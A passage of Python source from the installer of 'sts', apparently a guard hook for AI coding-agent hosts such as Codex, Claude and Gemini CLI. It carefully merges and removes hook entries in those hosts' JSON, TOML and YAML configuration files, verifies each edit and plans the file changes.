             "config": "settings.json", "binary": "qwen"},
    "copilot": {"user": lambda: _env_dir("COPILOT_HOME", ".copilot"), "project": ".github",
                "binary": "copilot"},
}

# A harmless event per host for doctor: nothing in it can arm, deny or change a
# contract, and doctor runs it against a throwaway STS_HOME anyway.
_PROBE_EVENTS: Dict[str, Callable[[str, str], dict]] = {
    "codex": lambda sid, cwd: {"session_id": sid, "hook_event_name": "SessionStart",
                               "source": "startup", "cwd": cwd, "transcript_path": None},
    "claude": lambda sid, cwd: {"session_id": sid, "hook_event_name": "SessionStart",
                                "source": "startup", "cwd": cwd, "transcript_path": None},
    "hermes": lambda sid, cwd: {"hook_event_name": "on_session_start", "tool_name": None,
                                "tool_input": None, "session_id": sid, "cwd": cwd, "extra": {}},
    "opencode": lambda sid, cwd: {"v": 1, "hook": "event", "sessionId": sid, "cwd": cwd,
                                  "payload": {"event": {"type": "session.created", "properties": {
                                      "sessionID": sid, "info": {"id": sid, "directory": cwd}}}}},
    "pi": lambda sid, cwd: {"v": 1, "hook": "session_shutdown", "sessionId": sid, "cwd": cwd,
                            "payload": {"event": {"type": "session_shutdown"},
                                        "ctx": {"idle": True, "hasUI": False}}},
    "gemini": lambda sid, cwd: {"session_id": sid, "hook_event_name": "SessionStart",
                                "source": "startup", "cwd": cwd},
    "qwen": lambda sid, cwd: {"session_id": sid, "hook_event_name": "SessionStart",
                              "source": "startup", "cwd": cwd},
    "copilot": lambda sid, cwd: {"sessionId": sid, "timestamp": 0, "cwd": cwd, "source": "new",
                                 "initialPrompt": ""},
    "omp": lambda sid, cwd: {"v": 1, "hook": "before_agent_start", "sessionId": sid, "cwd": cwd,
                             "payload": {"event": {"type": "before_agent_start", "prompt": "",
                                                   "systemPrompt": []},
                                         "ctx": {"idle": True, "hasUI": False, "sessionFile": None,
                                                 "parentSessionId": None}}},
}

# Hosts whose hook may answer with empty stdout; the JS shims need one JSON object.
_SILENT_OK = frozenset(("codex", "claude", "hermes", "gemini", "qwen", "copilot"))

_PIN_MARK = "sts install rewrites this line"
_SHIM_NAME = "stop-that-shit"
_OPENCODE_PLUGIN_PKG = "@opencode-ai/plugin"
_OPENCODE_PLUGIN_VERSION = "1.18.33"  # the version the host kit verified offline


class InstallError(Exception):
    """A clear, user-facing reason why install/uninstall stopped; nothing was written for it."""


class _Manual(Exception):
    """An edit sts cannot prove safe; the user gets the exact lines instead."""


# ---- the command ------------------------------------------------------------


def _sts_path() -> str:
    return os.path.abspath(__file__)


def _sh_quote(word: str) -> str:
    """Quote one argv word for sh -c and for Hermes' shlex.split alike.

    Double quotes where nothing inside them is special, so the common case reads
    like the documented form; shlex.quote otherwise (quotes, $, backslashes)."""
    import re
    import shlex
    if word and re.fullmatch(r"[A-Za-z0-9_@%+=:,./-]+", word):
        return word
    if not any(c in word for c in '$`"\\!\n'):
        return '"%s"' % word
    return shlex.quote(word)


def _dir_writable(path: str) -> bool:
    """Can Python cache bytecode next to sts.py?  (__pycache__ if present, else the folder.)"""
    cache = os.path.join(path, "__pycache__")
    return os.access(cache if os.path.isdir(cache) else path, os.W_OK)


def hook_argv(host: str, python: str = "python3", sts_path: Optional[str] = None) -> List[str]:
    """The hook command as argv: the import form, so bytecode is reused (a file
    run as a script is compiled on every run); -I keeps PYTHON* variables and
    the user's site folder from changing the guard, -S skips site start-up (sts
    needs only the standard library)."""
    path = os.path.abspath(sts_path or _sts_path())
    folder = os.path.dirname(path)
    argv = [python, "-I", "-S"]
    if not _dir_writable(folder):
        argv += ["-X", "pycache_prefix=" + os.path.join(data_dir(), "pycache")]
    if os.path.basename(path) == "sts.py":
        code = "import sys; sys.path.insert(0, %r); import sts; sys.exit(sts.main())" % folder
        argv += ["-c", code, host]
    else:  # a renamed copy cannot be imported as `sts`; the script form still works
        argv += [path, host]
    return argv


def hook_command(host: str, python: str = "python3", sts_path: Optional[str] = None) -> str:
    """The import-form hook command (see hook_argv) for this copy of sts.py, as one
    shell-quoted string (Codex and Claude run it with sh -c; Hermes shlex-splits it)."""
    return " ".join(_sh_quote(w) for w in hook_argv(host, python, sts_path))


# ---- JSON splicing ----------------------------------------------------------
#
# json.loads validates the file and reports line and column; the scanner below
# then only has to find spans in text that is known to be valid JSON.


def _json_value_end(text: str, i: int) -> int:
    c = text[i]
    if c == '"':
        i += 1
        while text[i] != '"':
            i += 2 if text[i] == "\\" else 1
        return i + 1
    if c in "{[":
        depth = 0
        while True:
            c = text[i]
            if c == '"':
                i = _json_value_end(text, i)
                continue
            if c in "{[":
                depth += 1
            elif c in "}]":
                depth -= 1
                if depth == 0:
                    return i + 1
            i += 1
    while i < len(text) and text[i] not in ",]} \t\r\n":
        i += 1
    return i


def _skip_ws(text: str, i: int) -> int:
    while i < len(text) and text[i] in " \t\r\n":
        i += 1
    return i


def _json_members(text: str, start: int) -> Tuple[List[Tuple[str, int, int, int]], int]:
    """Members of the object at text[start] == '{' as (key, key_start, value_start,
    value_end), and the index of its closing brace."""
    out = []
    i = _skip_ws(text, start + 1)
    while text[i] != "}":
        key_end = _json_value_end(text, i)
        key = json.loads(text[i:key_end])
        vs = _skip_ws(text, _skip_ws(text, key_end) + 1)
        ve = _json_value_end(text, vs)
        out.append((key, i, vs, ve))
        i = _skip_ws(text, ve)
        if text[i] == ",":
            i = _skip_ws(text, i + 1)
    return out, i


def _json_elements(text: str, start: int) -> Tuple[List[Tuple[int, int]], int]:
    out = []
    i = _skip_ws(text, start + 1)
    while text[i] != "]":
        end = _json_value_end(text, i)
        out.append((i, end))
        i = _skip_ws(text, end)
        if text[i] == ",":
            i = _skip_ws(text, i + 1)
    return out, i


def _line_indent(text: str, i: int) -> str:
    line_start = text.rfind("\n", 0, i) + 1
    lead = text[line_start:i]
    return lead if lead.strip() == "" else ""


def _ws_len(text: str, i: int) -> int:
    n = 0
    while i + n < len(text) and text[i + n] in " \t":
        n += 1
    return n


def _json_style(text: str) -> Optional[str]:
    """The file's indent unit, or None for a one-line (compact) file."""
    import re
    if "\n" not in text.strip():
        return None
    units = [m.group(1) for m in re.finditer(r"\n([ \t]+)\S", text)]
    return min(units, key=len) if units else "  "


def _json_dump(value: Any, unit: Optional[str], base: str) -> str:
    if unit is None:
        return json.dumps(value, ensure_ascii=False)
    return json.dumps(value, indent=unit, ensure_ascii=False).replace("\n", "\n" + base)


def _json_insert(text: str, start: int, closer: int, prior_end: Optional[int],
                 sample: Optional[int], piece: Any, key: Optional[str]) -> str:
    """Insert `piece` (as member `key`, or as an array element when key is None)
    into the container at text[start], after its last item."""
    unit = _json_style(text)
    if unit is None:
        item_indent, lead, tail = "", (", " if prior_end is not None else ""), ""
    elif sample is not None:
        item_indent = _line_indent(text, sample)
        lead, tail = ",\n" + item_indent if item_indent else ", ", ""
        if not item_indent:  # items share a line with their container: stay on one line
            unit = None
    else:
        line_start = text.rfind("\n", 0, start) + 1
        outer = text[line_start:line_start + _ws_len(text, line_start)]
        item_indent = outer + unit
        lead, tail = "\n" + item_indent, "\n" + outer
    body = (json.dumps(key, ensure_ascii=False) + ": " if key is not None else "")
    body += _json_dump(piece, unit, item_indent)
    if prior_end is None:  # empty container: replace whatever blank space it held
        return text[:start + 1] + lead + body + tail + text[closer:]
    return text[:prior_end] + lead + body + text[prior_end:]


def _json_remove(text: str, spans: List[Tuple[int, int]], closer: int, start: int, k: int) -> str:
    """Remove item k (its span covers key and value for members) with one comma."""
    if len(spans) == 1:
        return text[:start + 1] + text[closer:]
    if k > 0:
        return text[:spans[k - 1][1]] + text[spans[k][1]:]
    return text[:spans[0][0]] + text[spans[1][0]:]


def _json_locate(text: str, path: Tuple[str, ...]) -> Optional[int]:
    """Start index of the value at `path` (object keys only), or None."""
    i = _skip_ws(text, 0)
    for key in path:
        if text[i] != "{":
            return None
        members, _ = _json_members(text, i)
        found = [m for m in members if m[0] == key]
        if not found:
            return None
        i = found[-1][2]
    return i


def _json_set_member(text: str, path: Tuple[str, ...], key: str, value: Any) -> str:
    start = _json_locate(text, path)
    members, closer = _json_members(text, start)
    last = members[-1] if members else None
    return _json_insert(text, start, closer, last[3] if last else None,
                        last[1] if last else None, value, key)


def _json_drop_member(text: str, path: Tuple[str, ...], key: str) -> str:
    start = _json_locate(text, path)
    members, closer = _json_members(text, start)
    spans = [(m[1], m[3]) for m in members]
    k = [m[0] for m in members].index(key)
    return _json_remove(text, spans, closer, start, k)


def _json_append(text: str, path: Tuple[str, ...], value: Any) -> str:
    start = _json_locate(text, path)
    elems, closer = _json_elements(text, start)
    return _json_insert(text, start, closer, elems[-1][1] if elems else None,
                        elems[-1][0] if elems else None, value, None)


def _json_drop_element(text: str, path: Tuple[str, ...], k: int) -> str:
    start = _json_locate(text, path)
    elems, closer = _json_elements(text, start)
    return _json_remove(text, elems, closer, start, k)


def _load_json_config(path: str, text: str) -> dict:
    """Parse a host's JSON config; a malformed one stops install, naming file and line."""
    def no_dupes(pairs: list) -> dict:
        keys = [k for k, _ in pairs]
        dup = sorted({k for k in keys if keys.count(k) > 1})
        if dup:
            raise InstallError("%s has the key %r twice; sts will not guess which one the "
                               "host uses. Fix the file and run install again." % (path, dup[0]))
        return dict(pairs)
    if not text.strip():
        return {}
    try:
        data = json.loads(text, object_pairs_hook=no_dupes)
    except json.JSONDecodeError as exc:
        raise InstallError("%s is not valid JSON (line %d, column %d: %s); it was left "
                           "unchanged. Fix it and run install again."
                           % (path, exc.lineno, exc.colno, exc.msg))
    if not isinstance(data, dict):
        raise InstallError("%s line 1: the top level is not a JSON object; it was left unchanged."
                           % path)
    return data


def _hook_group(matcher: Optional[str], timeout: int, command: str) -> dict:
    group: Dict[str, Any] = {}
    if matcher is not None:
        group["matcher"] = matcher
    group["hooks"] = [{"type": "command", "command": command, "timeout": timeout}]
    return group


def _is_our_group(group: Any, commands: List[str]) -> bool:
    """A group install wrote: exactly one command hook running one of our commands."""
    if not isinstance(group, dict) or not isinstance(group.get("hooks"), list):
        return False
    hooks = group["hooks"]
    return (len(hooks) == 1 and isinstance(hooks[0], dict)
            and hooks[0].get("command") in commands)


def _merge_hooks_json(path: str, text: str, host: str, command: str,
                      old_commands: List[str]) -> Tuple[str, List[str]]:
    """New text of a Codex/Claude hooks file with our groups merged in, and the
    keys this edit created (so uninstall can take away exactly those)."""
    if not text.strip():
        text = "{\n}\n"
    data = _load_json_config(path, text)
    created: List[str] = []
    hooks = data.get("hooks")
    events = _HOOK_EVENTS[host]
    if "hooks" not in data:
        value = {ev: [_hook_group(m, t, command)] for ev, m, t in events}
        return _json_set_member(text, (), "hooks", value), ["hooks"] + ["hooks." + e for e in value]
    if not isinstance(hooks, dict):
        raise InstallError('%s: "hooks" is not a JSON object; it was left unchanged.' % path)
    known = [command] + old_commands
    for ev, matcher, timeout in events:
        want = _hook_group(matcher, timeout, command)
        groups = hooks.get(ev)
        if ev not in hooks:
            text = _json_set_member(text, ("hooks",), ev, [want])
            created.append("hooks." + ev)
            continue
        if not isinstance(groups, list):
            raise InstallError('%s: "hooks.%s" is not a JSON array; it was left unchanged.'
                               % (path, ev))
        ours = [k for k, g in enumerate(groups) if _is_our_group(g, known)]
        if len(ours) == 1 and groups[ours[0]] == want:
            continue
        for k in reversed(ours):  # an older sts entry (moved sts.py, new timeout): replace it
            text = _json_drop_element(text, ("hooks", ev), k)
        text = _json_append(text, ("hooks", ev), want)
    return text, created


def _unmerge_hooks_json(path: str, text: str, commands: List[str],
                        created: List[str]) -> str:
    """Remove our groups, then the keys install created if they are now empty."""
    data = _load_json_config(path, text) if text.strip() else {}
    hooks = data.get("hooks")
    if not isinstance(hooks, dict):
        return text
    for ev, groups in hooks.items():
        if not isinstance(groups, list):
            continue
        for k in reversed([k for k, g in enumerate(groups) if _is_our_group(g, commands)]):
            text = _json_drop_element(text, ("hooks", ev), k)
    for dotted in sorted(created, key=lambda d: -d.count(".")):
        parts = tuple(dotted.split("."))
        data = json.loads(text)
        parent: Any = data
        for p in parts[:-1]:
            parent = parent.get(p) if isinstance(parent, dict) else None
        if isinstance(parent, dict) and parent.get(parts[-1]) in ([], {}):
            text = _json_drop_member(text, parts[:-1], parts[-1])
    return text


def _json_hooks_wired(path: str, host: str, command: str) -> Tuple[bool, str]:
    """Doctor: does the file hold our group for every event?"""
    try:
        with open(path, encoding="utf-8") as fh:
            data = json.loads(fh.read() or "{}")
    except FileNotFoundError:
        return False, "%s does not exist" % path
    except (OSError, ValueError) as exc:
        return False, "%s cannot be read: %s" % (path, exc)
    hooks = data.get("hooks") if isinstance(data, dict) else None
    missing = []
    for ev, matcher, timeout in _HOOK_EVENTS[host]:
        groups = hooks.get(ev) if isinstance(hooks, dict) else None
        want = _hook_group(matcher, timeout, command)
        if not isinstance(groups, list) or want not in groups:
            missing.append(ev)
    if missing:
        return False, "%s lacks the sts hook for %s" % (path, ", ".join(missing))
    return True, "%s runs sts on %d events" % (path, len(_HOOK_EVENTS[host]))


# ---- Codex TOML -------------------------------------------------------------
#
# Codex wants `[features] hooks = true` in config.toml (the host kit set it).
# sts never rewrites TOML: it appends a new [features] table, or adds one line
# right under an existing plain [features] header, and only when the file gives
# no other way to define `features` (dotted keys, inline tables, sub-tables).
# Where tomllib exists (3.11+) the result is parsed and compared as well.

_TOML_LINE = "hooks = true"


def _toml_lines_code(text: str) -> List[Tuple[int, str]]:
    """(index, line) of lines that are not blank and not comments."""
    return [(i, ln) for i, ln in enumerate(text.split("\n"))
            if ln.strip() and not ln.lstrip().startswith("#")]


def _toml_features(text: str) -> Tuple[Optional[int], Optional[str]]:
    """(index of the [features] header or None, current `hooks` value text or None).
    Raises _Manual when features is spelled in a form sts does not edit."""
    import re
    if "'''" in text or '"""' in text:
        raise _Manual("config.toml holds multi-line strings")
    header = None
    value = None
    in_features = False
    for i, ln in _toml_lines_code(text):
        s = ln.strip()
        if s.startswith("["):
            in_features = bool(re.fullmatch(r"\[\s*features\s*\]\s*(#.*)?", s))
            if in_features:
                if header is not None:
                    raise _Manual("[features] appears twice")
                header = i
            elif re.match(r"\[\[?\s*[\"']?features[\"']?\s*[.\]]", s):
                raise _Manual("features is defined as a sub-table or array")
            continue
        if re.match(r"[\"']?features[\"']?\s*[.=]", s) and not in_features:
            raise _Manual("features is set with a dotted key or inline table")
        if in_features:
            m = re.match(r"[\"']?hooks[\"']?\s*=\s*(.*?)\s*(#.*)?$", s)
            if m:
                value = m.group(1)
    return header, value


def _toml_enable_hooks(path: str, text: str) -> Tuple[str, bool]:
    """New config.toml text with [features] hooks = true, and whether the header is new."""
    header, value = _toml_features(text)
    if value == "true":
        return text, False
    if value is not None:
        raise _Manual("[features] sets hooks = %s" % value)
    lines = text.split("\n")
    if header is None:
        if text and not text.endswith("\n"):
            text += "\n"
        new = text + ("\n" if text.strip() else "") + "[features]\n" + _TOML_LINE + "\n"
    else:
        lines.insert(header + 1, _TOML_LINE)
        new = "\n".join(lines)
    _toml_verify(path, text, new, enabled=True)
    return new, header is None


def _toml_disable_hooks(path: str, text: str, added_header: bool) -> str:
    """Take away exactly the line (and header) _toml_enable_hooks added."""
    try:
        header, value = _toml_features(text)
    except _Manual:
        return text
    if header is None or value != "true":
        return text
    lines = text.split("\n")
    end = len(lines)
    for i in range(header + 1, len(lines)):
        if lines[i].strip().startswith("["):
            end = i
            break
    for i in range(header + 1, end):
        if lines[i].strip() == _TOML_LINE:
            del lines[i]
            end -= 1
            break
    else:
        return text
    rest = [ln for ln in lines[header + 1:end] if ln.strip() and not ln.lstrip().startswith("#")]
    if added_header and not rest:
        del lines[header:end]
        if header > 0 and not lines[header - 1].strip() \
                and not any(ln.strip() for ln in lines[header:]):
            del lines[header - 1]  # the blank line install put before the table
    new = "\n".join(lines)
    if not new.strip():
        new = ""
    elif not new.endswith("\n"):
        new += "\n"
    _toml_verify(path, new, text, enabled=True)
    return new


def _toml_verify(path: str, before: str, after: str, enabled: bool) -> None:
    """With tomllib: `after` must equal `before` plus features.hooks = true, nothing else."""
    try:
        import tomllib  # type: ignore[import-not-found]
    except ImportError:
        return
    try:
        old = tomllib.loads(before)
    except tomllib.TOMLDecodeError as exc:
        raise InstallError("%s is not valid TOML (%s); it was left unchanged." % (path, exc))
    try:
        new = tomllib.loads(after)
    except tomllib.TOMLDecodeError:
        raise _Manual("the edited file would not parse")
    feats = dict(old.get("features") or {})
    feats["hooks"] = enabled
    expected = dict(old)
    expected["features"] = feats
    if new != expected:
        raise _Manual("the edit would change more than features.hooks")


def _toml_hooks_enabled(path: str) -> Optional[bool]:
    try:
        with open(path, encoding="utf-8") as fh:
            text = fh.read()
    except OSError:
        return None
    try:
        import tomllib  # type: ignore[import-not-found]
        try:
            return tomllib.loads(text).get("features", {}).get("hooks") is True
        except (tomllib.TOMLDecodeError, AttributeError):
            return False
    except ImportError:
        try:
            return _toml_features(text)[1] == "true"
        except _Manual:
            return None


# ---- Hermes YAML ------------------------------------------------------------
#
# No YAML library: sts reads config.yaml only as far as it must to prove where
# `plugins.enabled` is, and gives up (printing the lines) on anything fancier
# than plain block mappings, block sequences of plain names, or a one-line
# flow list.  Each edit inserts or changes lines inside that proven region.

_YAML_PLAIN = r"[A-Za-z0-9_][A-Za-z0-9_.\-/]*"


def _yaml_indent(line: str) -> int:
    return len(line) - len(line.lstrip(" "))


def _yaml_code(line: str) -> bool:
    s = line.strip()
    return bool(s) and not s.startswith("#")


def _yaml_strip_comment(s: str) -> str:
    import re
    return re.sub(r"\s+#.*$", "", s).strip()


def _yaml_plugins(lines: List[str]) -> Dict[str, Any]:
    """Find plugins.enabled in a config.yaml split into lines (no newline chars).

    Returns {"plugins": idx|None, "child": indent str, "end": idx after the block,
    "enabled": idx|None, "style": "block"|"flow"|None, "items": [(idx, name)],
    "item_indent": str}.  Raises _Manual for anything it cannot prove."""
    import re
    if any("\t" in ln[:_yaml_indent(ln) + 1] for ln in lines if ln.strip()):
        raise _Manual("config.yaml indents with tabs")
    code = [i for i, ln in enumerate(lines) if _yaml_code(ln)]
    for n, i in enumerate(code):
        ln = lines[i]
        if ln.startswith(("---", "...")) and not (n == 0 and ln.strip() == "---"):
            raise _Manual("config.yaml holds several documents")
        if _yaml_indent(ln) == 0 and ln[0] in "?&*{[-!|>%@`'\"<":
            raise _Manual("config.yaml is not a plain mapping at the top level")
        if _yaml_indent(ln) == 0 and ln.startswith("<<"):
            raise _Manual("config.yaml merges anchors at the top level")
    tops = [i for i in code if _yaml_indent(lines[i]) == 0 and lines[i].strip() != "---"]
    found = [i for i in tops if re.match(r"plugins\s*:", lines[i])]
    info: Dict[str, Any] = {"plugins": None, "child": "  ", "end": len(lines), "enabled": None,
                            "style": None, "items": [], "item_indent": "    "}
    if not found:
        return info
    if len(found) > 1:
        raise _Manual("config.yaml has two plugins: keys")
    p = found[0]
    if _yaml_strip_comment(lines[p].split(":", 1)[1]):
        raise _Manual("plugins: is written on one line")
    end = next((i for i in tops if i > p), len(lines))
    while end > p + 1 and not _yaml_code(lines[end - 1]):
        end -= 1  # trailing blank/comment lines belong to nobody; insert before them
    info.update(plugins=p, end=end)
    body = [i for i in code if p < i < end]
    if not body:
        return info
    child = _yaml_indent(lines[body[0]])
    info["child"] = " " * child
    keys = [i for i in body if _yaml_indent(lines[i]) == child]
    if any(_yaml_indent(lines[i]) < child for i in body):
        raise _Manual("plugins: is indented irregularly")
    open_key = False  # a "- item" line at key level only continues a key left open above
    for i in keys:
        s = lines[i].strip()
        if s.startswith("- ") and open_key:
            continue
        if not re.match(r"[A-Za-z0-9_][\w.\-]*\s*:(\s|$)", s):
            raise _Manual("plugins: is not a plain mapping")
        open_key = not _yaml_strip_comment(s.split(":", 1)[1])
    en = [i for i in keys if re.match(r"enabled\s*:", lines[i].strip())]
    if any(re.match(r"[\"']enabled[\"']\s*:", lines[i].strip()) for i in keys):
        raise _Manual("plugins.enabled is a quoted key")
    if len(en) > 1:
        raise _Manual("plugins.enabled appears twice")
    if not en:
        return info
    e = en[0]
    info["enabled"] = e
    rest = _yaml_strip_comment(lines[e].split(":", 1)[1])
    if rest.startswith("["):
        m = re.fullmatch(r"\[\s*(.*?)\s*\]", rest)
        names = [x.strip() for x in m.group(1).split(",")] if m and m.group(1) else []
        if not m or not all(re.fullmatch(_YAML_PLAIN, x) for x in names):
            raise _Manual("plugins.enabled is a flow list sts cannot read")
        info.update(style="flow", items=[(e, x) for x in names])
        return info
    if rest:
        raise _Manual("plugins.enabled is not a list")
    info["style"] = "block"
    nxt = [i for i in body if i > e]
    stop = next((i for i in nxt if _yaml_indent(lines[i]) <= child
                 and not lines[i].strip().startswith("- ")), end)
    seq = [i for i in nxt if i < stop]
    if seq:
        ind = _yaml_indent(lines[seq[0]])
        for i in seq:
            m = re.fullmatch(r"-\s+(%s)" % _YAML_PLAIN, _yaml_strip_comment(lines[i]))
            if _yaml_indent(lines[i]) != ind or not m:
                raise _Manual("plugins.enabled holds entries sts cannot read")
            info["items"].append((i, m.group(1)))
        info["item_indent"] = " " * ind
    else:
        info["item_indent"] = " " * (child + 2)
    return info


def _yaml_enable(text: str) -> Tuple[str, str]:
    """config.yaml text with stop-that-shit in plugins.enabled, and what was created
    ("" when already there, else "file", "plugins", "enabled", "item" or "flow")."""
    if not text.strip():
        return "plugins:\n  enabled:\n    - %s\n" % _SHIM_NAME, "file"
    lines = text.split("\n")
    info = _yaml_plugins(lines)
    if any(name == _SHIM_NAME for _, name in info["items"]):
        return text, ""
    if info["plugins"] is None:
        if not text.endswith("\n"):
            text += "\n"
        new, what = text + "plugins:\n  enabled:\n    - %s\n" % _SHIM_NAME, "plugins"
    elif info["enabled"] is None:
        ci = info["child"]
        lines[info["plugins"] + 1:info["plugins"] + 1] = [
            ci + "enabled:", ci + "  - " + _SHIM_NAME]
        new, what = "\n".join(lines), "enabled"
    elif info["style"] == "flow":
        e = info["enabled"]
        head, _, tail = lines[e].partition("[")
        inner, _, after = tail.rpartition("]")
        inner = inner.rstrip()
        lines[e] = head + "[" + (inner + ", " if inner.strip() else "") + _SHIM_NAME + "]" + after
        new, what = "\n".join(lines), "flow"
    else:
        at = info["items"][-1][0] + 1 if info["items"] else info["enabled"] + 1
        lines.insert(at, info["item_indent"] + "- " + _SHIM_NAME)
        new, what = "\n".join(lines), "item"
    check = _yaml_plugins(new.split("\n"))  # prove it: the reader now finds us
    if [n for _, n in check["items"]].count(_SHIM_NAME) != 1:
        raise _Manual("the edit could not be verified")
    return new, what


def _yaml_disable(text: str, created: str) -> str:
    """Remove our entry, and the keys install created if they are now empty."""
    lines = text.split("\n")
    try:
        info = _yaml_plugins(lines)
    except _Manual:
        return text
    ours = [i for i, n in info["items"] if n == _SHIM_NAME]
    if not ours:
        return text
    if info["style"] == "flow":
        e = info["enabled"]
        head, _, tail = lines[e].partition("[")
        inner, _, after = tail.rpartition("]")
        names = [x.strip() for x in inner.split(",") if x.strip() and x.strip() != _SHIM_NAME]
        lines[e] = head + "[" + ", ".join(names) + "]" + after
    else:
        del lines[ours[0]]
        info = _yaml_plugins(lines)
        if created in ("file", "plugins", "enabled") and info["enabled"] is not None \
                and not info["items"]:
            del lines[info["enabled"]]
            info = _yaml_plugins(lines)
            body = [i for i in range(info["plugins"] + 1, info["end"]) if _yaml_code(lines[i])] \
                if info["plugins"] is not None else [0]
            if created in ("file", "plugins") and not body:
                del lines[info["plugins"]]
    new = "\n".join(lines)
    return "" if created == "file" and not new.strip() else new


def _yaml_enable_lines() -> str:
    return "plugins:\n  enabled:\n    - %s" % _SHIM_NAME


# ---- shims ------------------------------------------------------------------


def _shims_dir() -> str:
    return os.path.join(os.path.dirname(_sts_path()), "host_shims")


def _pin_shim(name: str, text: str, sts_path: str) -> str:
    """Rewrite the shim's one marked line so the copy finds this sts.py."""
    import re
    if name.endswith(".js"):
        pat = r"^([ \t]*)const INSTALLED_STS_PY = .*;[ \t]*//[ \t]*" + re.escape(_PIN_MARK) + r"[ \t]*$"
        line = "const INSTALLED_STS_PY = %s; // %s" % (json.dumps(sts_path), _PIN_MARK)
    elif name.endswith(".py"):
        pat = r"^([ \t]*)INSTALLED_STS_PY = .*#[ \t]*" + re.escape(_PIN_MARK) + r"[ \t]*$"
        line = "INSTALLED_STS_PY = %r  # %s" % (sts_path, _PIN_MARK)
    else:
        return text
    found = re.findall(pat, text, flags=re.M)
    if len(found) != 1:
        raise InstallError("the shim %s has %d lines marked %r (expected one); this copy of "
                           "host_shims/ is damaged." % (name, len(found), _PIN_MARK))
    return re.sub(pat, lambda m: m.group(1) + line, text, flags=re.M)


def _shim_pinned_to(path: str) -> Optional[str]:
    """The sts.py path an installed shim copy points at, if it is one of ours."""
    import ast
    import re
    try:
        with open(path, encoding="utf-8") as fh:
            text = fh.read()
    except (OSError, UnicodeDecodeError):
        return None
    m = re.search(r"INSTALLED_STS_PY = (.*?);?[ \t]*(//|#)[ \t]*" + re.escape(_PIN_MARK), text)
    if not m:
        return None
    try:
        value = json.loads(m.group(1)) if path.endswith(".js") else ast.literal_eval(m.group(1))
    except (ValueError, SyntaxError):
        return None
    return value if isinstance(value, str) else None


# ---- planning ---------------------------------------------------------------


class _Change(Record):

    __slots__ = FIELDS = ('path', 'old', 'new')
    path: str
    old: Optional[bytes]
    new: Optional[bytes]  # None: delete the file


class _Plan(Record):

    __slots__ = FIELDS = ('host', 'scope', 'base', 'changes', 'files', 'notes', 'manual', 'dirs')
    DEFAULTS = {'changes': list, 'files': dict, 'notes': list, 'manual': list, 'dirs': list}
    host: str
    scope: str
    base: str
    changes: List[_Change]
    files: Dict[str, dict]   # record per path
    notes: List[str]
    manual: List[str]        # lines the user must add
    dirs: List[str]          # folders install creates


def _install_read(path: str) -> Optional[bytes]:
    try:
        with open(path, "rb") as fh:
            return fh.read()
    except FileNotFoundError:
        return None
    except IsADirectoryError:
        raise InstallError("%s is a folder, not a file; it was left unchanged." % path)
    except OSError as exc:
        raise InstallError("cannot read %s: %s" % (path, exc.strerror or exc))


def _text(path: str, raw: Optional[bytes]) -> str:
    if raw is None:
        return ""
    try:
        return raw.decode("utf-8")
    except UnicodeDecodeError as exc:
        line = raw[:exc.start].count(b"\n") + 1
        raise InstallError("%s line %d is not UTF-8; it was left unchanged." % (path, line))


def _sha(data: bytes) -> str:
    return sha256_hex(data)


def _project_root() -> str:
    """The repository holding the current folder (nearest .git), else the folder itself."""
    here = os.path.abspath(os.getcwd())
    d = here
    while True:
        if os.path.exists(os.path.join(d, ".git")):
            return d
        up = os.path.dirname(d)
        if up == d:
            return here
        d = up


def _base_dir(host: str, scope: str) -> str:
    spec = _HOSTS[host]
    return spec["user"]() if scope == "user" else os.path.join(_project_root(), spec["project"])


def _change(plan: _Plan, path: str, old: Optional[bytes], new: Optional[bytes]) -> None:
    if old != new:
        plan.changes.append(_Change(path, old, new))


def _plan_install(host: str, scope: str, python: str, entry: dict) -> _Plan:
    base = _base_dir(host, scope)
    plan = _Plan(host, scope, base)
    command = hook_command(host, python)
    prior = entry.get("files", {})
    if host in _HOOK_EVENTS:
        cfg = os.path.join(base, _HOSTS[host]["config"])
        raw = _install_read(cfg)
        text, created = _merge_hooks_json(cfg, _text(cfg, raw), host, command,
                                          [c for c in entry.get("commands", []) if c != command])
        new = text.encode("utf-8")
        _change(plan, cfg, raw, new)
        rec = dict(prior.get(cfg) or {"type": "hooks-json", "created_file": raw is None,
                                      "created": []})
        if raw is not None and not raw.strip() and cfg not in prior:
            rec["blank"] = raw.decode("utf-8", "replace")  # uninstall restores the blank file
        rec["created"] = sorted(set(rec.get("created", [])) | set(created))
        plan.files[cfg] = rec
    if host == "codex":
        _plan_codex_features(plan, os.path.join(base, "config.toml"), prior)
        if scope == "project":
            plan.notes.append(
                "Codex reads %s only for trusted projects: trust %s in Codex (it asks on first "
                "start), or add to %s:\n  [projects.%s]\n  trust_level = \"trusted\""
                % (os.path.join(base, "hooks.json"), _project_root(),
                   os.path.join(_HOSTS["codex"]["user"](), "config.toml"),
                   json.dumps(_project_root(), ensure_ascii=False)))
    for src, dst in _SHIM_FILES.get(host, ()):
        source = os.path.join(_shims_dir(), *src.split("/"))
        raw_src = _install_read(source)
        if raw_src is None:
            raise InstallError("the shim %s is missing; install needs the host_shims/ folder "
                               "that ships next to sts.py." % source)
        new = _pin_shim(dst, _text(source, raw_src), _sts_path()).encode("utf-8")
        dest = os.path.join(base, *dst.split("/"))
        old = _install_read(dest)
        if old is not None and old != new and _PIN_MARK.encode() not in old:
            raise InstallError("%s exists and is not an sts shim; move it away and run install "
                               "again." % dest)
        _change(plan, dest, old, new)
        rec = dict(prior.get(dest) or {"type": "file", "created_file": old is None})
        rec["sha256"] = _sha(new)
        plan.files[dest] = rec
    if host == "copilot":
        _plan_copilot_hooks(plan, base, python, prior)
    for note in _TRUST_NOTES.get((host, scope), ()):
        plan.notes.append(note % {"root": _project_root(), "base": base})
    if host == "opencode":
        _plan_opencode_seed(plan, base, prior)
    if host == "hermes":
        _plan_hermes_enable(plan, os.path.join(_HOSTS["hermes"]["user"](), "config.yaml"), prior)
        if scope == "project":
            plan.notes.append("Hermes loads project plugins only with HERMES_ENABLE_PROJECT_PLUGINS=1.")
        plan.notes.append("Restart Hermes (and `hermes gateway restart`) to load the plugin. "
                          "Do not also add sts as a native hook in config.yaml `hooks:`.")
    for ch in plan.changes:  # folders install has to create, outermost first
        missing = []
        d = os.path.dirname(ch.path)
        while d and not os.path.isdir(d) and d not in plan.dirs:
            missing.append(d)
            d = os.path.dirname(d)
        plan.dirs.extend(reversed(missing))
    return plan


# What a host needs before it runs project hooks (the Codex note lives in _plan_install).
_TRUST_NOTES: Dict[Tuple[str, str], Tuple[str, ...]] = {
    ("gemini", "project"): (
        "Gemini CLI runs the hooks of %(base)s only in a trusted folder: trust %(root)s when "
